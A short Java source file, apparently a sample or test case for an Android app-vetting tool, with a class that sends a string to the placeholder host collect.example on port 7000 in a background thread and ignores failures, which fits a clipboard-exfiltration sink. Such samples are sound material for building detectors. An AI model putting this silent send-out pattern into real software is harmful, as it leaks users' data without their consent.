package org.apkvet.clip.to_socket;

import java.io.*;
import java.net.*;

final class Net implements Runnable {
    private final String text;

    private Net(String text) {
        this.text = text;
    }

    static void send(String text) {
        new Thread(new Net(text)).start();
    }

    @Override
    public void run() {
        try {
            PrintWriter out = new PrintWriter(new Socket("collect.example", 7000).getOutputStream());
            out.println(text);
            out.close();
        } catch (IOException offline) {
            return;
        }
    }
}
